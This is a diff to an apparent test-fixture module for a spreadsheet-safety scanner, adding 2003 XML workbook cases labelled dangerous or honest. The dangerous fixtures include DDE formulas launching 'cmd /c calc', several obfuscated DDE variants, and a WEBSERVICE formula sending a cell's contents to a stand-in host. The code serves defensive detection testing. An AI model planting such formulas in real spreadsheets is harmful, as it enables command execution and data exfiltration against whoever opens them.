@@ -11,6 +11,7 @@ _DATABASE: Final = '<dbPr connection="Provider=SQLOLEDB;Data Source=a.example" c
 _QUERY: Final = '<queryTable refreshOnLoad="1" connectionId="1"/>'
 _CALL: Final = "_xlfn.WEBSERVICE(&quot;https://a.example/&quot;&amp;A1)"
 _DDE: Final = "DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;A1&quot;)"
+_2003: Final = "urn:schemas-microsoft-com:office:spreadsheet"
 
 
 def _case(name: str, data: bytes, *reasons: str) -> FileCase:
@@ -35,6 +36,13 @@ def _pivot(source: str) -> str:
     return f'<pivotCacheDefinition {_SPACE} refreshOnLoad="1"><cacheSource type="{source}"/></pivotCacheDefinition>'
 
 
+def _of_2003(formula: str, names: str = "", before: str = "") -> bytes:
+    cell = f'<Cell ss:Formula="{formula}"><Data ss:Type="String">a | DDE(b)&#10;</Data></Cell>'
+    sheet = f'<Worksheet ss:Name="S"><Table><Row>{cell}</Row></Table></Worksheet>'
+    spaces = f'xmlns="{_2003}" xmlns:ss="{_2003}"'
+    return f'<?xml version="1.0"?>{before}<Workbook {spaces}>{names}{sheet}</Workbook>'.encode()
+
+
 _DANGEROUS: Final = (
     _case("webservice.xlsx", _cell(_CALL), "remote"),
     _case("webservice-in-letters-of-both-cases.xlsx", _cell("1+_xlfn.WebService (A1)"), "remote"),
@@ -54,6 +62,17 @@ _DANGEROUS: Final = (
     _case(
         "text-on-a-share.xlsx", _connected('<textPr sourceFile="\\\\10.0.0.1\\a.csv"/>', 'refreshOnLoad="1"'), "remote"
     ),
+    _case("dde-of-2003.xls", _of_2003("=cmd|'/c calc'!A0"), "dde"),
+    _case("dde-function-of-2003.xml", _of_2003(f"={_DDE.replace(',', ';')}"), "dde"),
+    _case("dde-function-of-2003-in-utf-16.xml", _of_2003(f"={_DDE}").decode().encode("utf-16"), "dde"),
+    _case(
+        "dde-function-of-2003-in-references.xml",
+        _of_2003("=&#68;DE(A1)").replace(_2003.encode(), b"&#117;" + _2003[1:].encode()),
+        "dde",
+    ),
+    _case("dde-in-a-name-of-2003.xml", _of_2003("=a", f'<NamedRange ss:RefersTo="={_DDE}"/>'), "dde"),
+    _case("webservice-of-2003.xls", _of_2003(f"={_CALL[6:]}"), "remote"),
+    _case("doctype-of-2003.xls", _of_2003("=1", before='<!DOCTYPE a [<!ENTITY d "DDE">]>'), "doctype"),
 )
 _HONEST: Final = (
     _case("links.xlsx", _cell('HYPERLINK("https://example.com/?a="&amp;A2,"here")')),
@@ -66,5 +85,8 @@ _HONEST: Final = (
     _case("pivot-on-load.xlsx", _connected(_DATABASE, xl__a_dot_xml=XML + _pivot("worksheet"))),
     _case("talk.ods", odt('<table:table-cell table:formula="of:=IF(1;&quot;DDE(x)&quot;;1)"/>', kind="spreadsheet")),
     _case("sums.fods", content('<table:table-cell table:formula="of:=SUM([.A1])"/>', "document").encode()),
+    _case("sums-of-2003.xml", _of_2003("=IF(RC[-1]=&quot;WEBSERVICE(|)&quot;,SUM(R1C1:R9C1),2)")),
+    _case("plain-of-2003.xml", _of_2003("=1").replace(b"a | DDE(b)&#10;", b"a")),
+    _case("not-well-formed-of-2003.xml", _of_2003("=1").replace(b"a | DDE(b)&#10;", b"a & b")),
 )
 CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
